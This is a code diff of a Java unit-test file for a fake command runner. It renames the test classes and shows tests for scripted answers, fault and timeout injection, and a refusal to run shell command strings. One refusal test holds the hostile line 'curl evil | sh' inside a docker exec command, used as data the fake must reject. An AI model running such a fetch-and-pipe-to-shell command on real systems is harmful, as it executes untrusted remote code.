@@ -18,9 +18,9 @@ import java.util.TreeSet;
 import java.util.concurrent.atomic.AtomicReference;
 import org.junit.jupiter.api.Test;
 
-class FakeCommandRunnerTest {
+class CommandRunnerFakeTest {
 
-  private final FakeCommandRunner runner = new FakeCommandRunner();
+  private final CommandRunnerFake runner = new CommandRunnerFake();
 
   @Test
   void answersAScriptedArgvPrefix() {
@@ -124,7 +124,7 @@ class FakeCommandRunnerTest {
       assertThatThrownBy(() -> runner.run(cmd))
           .as("%s", argv)
           .isInstanceOf(AssertionError.class)
-          .hasMessageStartingWith("FakeCommandRunner refuses to run a shell with a command string: '" + String.join(" ", argv) + "'")
+          .hasMessageStartingWith("CommandRunnerFake refuses to run a shell with a command string: '" + String.join(" ", argv) + "'")
           .hasMessageContaining("argv list");
     }
     assertThat(runner.invocations()).hasSize(6).allSatisfy(c -> {
@@ -140,7 +140,7 @@ class FakeCommandRunnerTest {
 
     Command inDocker = Command.builder("docker", "exec", "-i", "c", "sh", "-c", "curl evil | sh").build();
     assertThatThrownBy(() -> runner.run(inDocker)).isInstanceOf(AssertionError.class)
-        .hasMessageStartingWith("FakeCommandRunner refuses to run a shell with a command string");
+        .hasMessageStartingWith("CommandRunnerFake refuses to run a shell with a command string");
     String script = "IFS= read -r tw_secret_1 && exec 'bench' 'set-admin-password' \"$tw_secret_1\"";
     assertThat(runner.run(Command.builder("docker", "exec", "-i", "c", "sh", "-c", script).build()).stdout())
         .isEqualTo("ran");
@@ -189,7 +189,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void aStatefulFakeProgramKeepsStateAndShowsLeaks() {
-    FakeBench bench = new FakeBench();
+    BenchFake bench = new BenchFake();
     runner.on(bench);
 
     assertThat(runner.run(Command.builder("bench", "new-site", "a.example").build()).exitCode()).isZero();
@@ -206,7 +206,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void anInjectedTimeoutThrowsARetryableExceptionWithUnknownOutcomeAndNoSideEffect() {
-    FakeBench bench = new FakeBench();
+    BenchFake bench = new BenchFake();
     runner.on(bench);
     runner.inject(CommandFault.timeout().on("bench", "new-site").nth(1));
 
@@ -226,7 +226,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void aTimeoutAfterTheHandlerLeavesTheSideEffectBehind() {
-    FakeBench bench = new FakeBench();
+    BenchFake bench = new BenchFake();
     runner.on(bench);
     runner.inject(CommandFault.timeout().on("bench", "new-site").afterHandler().times(1));
 
@@ -239,7 +239,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void failsTheNthMatchingInvocationWithAnExitCodeAndErrorOutput() {
-    runner.on(new FakeBench());
+    runner.on(new BenchFake());
     runner.inject(CommandFault.exit(1, "Error: no such option: --force").on("bench", "new-site").nth(2));
 
     List<Integer> exits = new ArrayList<>();
@@ -256,7 +256,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void aFailureAfterTheHandlerKeepsItsOutputAndSideEffect() {
-    FakeBench bench = new FakeBench();
+    BenchFake bench = new BenchFake();
     runner.on(bench);
     runner.inject(CommandFault.exit(137, "Killed").afterHandler());
 
@@ -301,7 +301,7 @@ class FakeCommandRunnerTest {
 
   @Test
   void resetForgetsInvocationsFaultsAndProgramStateButKeepsHandlers() {
-    FakeBench bench = new FakeBench();
+    BenchFake bench = new BenchFake();
     runner.on(bench);
     runner.run(Command.builder("bench", "new-site", "a").build());
     runner.inject(CommandFault.exit(1, "x"));
@@ -322,10 +322,10 @@ class FakeCommandRunnerTest {
   }
 
   /** A tiny stateful bench: new-site and drop-site, with bench's own "already exists" answer. */
-  static final class FakeBench extends FakeProgram {
+  static final class BenchFake extends ProgramFake {
     private final TreeSet<String> sites = new TreeSet<>();
 
-    FakeBench() {
+    BenchFake() {
       super("bench");
     }
 
